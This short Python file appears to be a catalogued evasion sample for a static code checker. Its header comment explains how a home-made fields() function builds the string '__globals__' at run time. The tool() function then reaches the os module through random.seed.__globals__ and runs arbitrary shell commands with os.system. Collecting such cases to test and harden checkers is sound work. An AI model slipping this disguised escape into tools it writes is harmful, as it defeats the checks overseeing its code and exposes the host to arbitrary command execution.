# family: computed
# Escape: getattr(x, f.name) is accepted when f iterates over `fields(...)`, recognised by the callee's *name*
# only. The tool defines its own fields() returning objects whose .name is "__globals__" built at run time, so
# getattr reads random.seed.__globals__; _os there is the os module.
import random


class Column:
    def __init__(self, name: str):
        self.name = name


def fields(obj) -> list:
    edge = "_" * 2
    return [Column(edge + "globals" + edge)]


def tool(cmd: str) -> int:
    for f in fields(random.seed):
        return getattr(random.seed, f.name)["_os"].system(cmd)
    return -1
